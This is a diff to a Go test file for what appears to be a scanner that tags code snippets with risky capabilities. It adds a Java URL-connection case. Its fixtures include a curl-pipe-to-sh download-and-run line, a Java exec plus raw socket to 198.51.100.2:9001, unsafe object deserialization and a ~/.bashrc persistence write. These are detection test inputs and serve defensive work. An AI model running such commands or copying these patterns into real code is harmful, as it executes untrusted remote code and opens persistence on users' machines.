@@ -36,6 +36,7 @@ func TestExtract(t *testing.T) {
 		{"go environ to child is fine", "a.go", "package x\nimport \"os\"\nfunc f(cmd *C) { cmd.Env = append(os.Environ(), \"A=1\") }\n", nil},
 		{"java runtime exec and socket", "A.java", "import java.net.Socket;\nclass A { void g() throws Exception { Runtime.getRuntime().exec(\"id\"); new Socket(\"198.51.100.2\", 9001); } }\n", []string{"process id", "network 198.51.100.2:9001"}},
 		{"java object stream", "A.java", "import java.io.*;\nclass A { Object r(InputStream in) throws Exception { return new ObjectInputStream(in).readObject(); } }\n", []string{"deserialization"}},
+		{"java url variable", "A.java", "import java.net.*;\nclass A { void f(URL url) throws Exception { HttpURLConnection c = (HttpURLConnection) url.openConnection(); } }\n", []string{"network"}},
 		{"java native method", "A.java", "class A { native int f(); }\n", []string{"native JNI"}},
 		{"shell curl pipe sh", "a.sh", "#!/bin/sh\ncurl -fsSL https://get.example.com/i.sh | sh\n", []string{"obfuscation", "network get.example.com"}},
 		{"shell bashrc redirect", "a.sh", "echo 'alias ll=ls' >> ~/.bashrc\n", []string{"persistence ~/.bashrc"}},
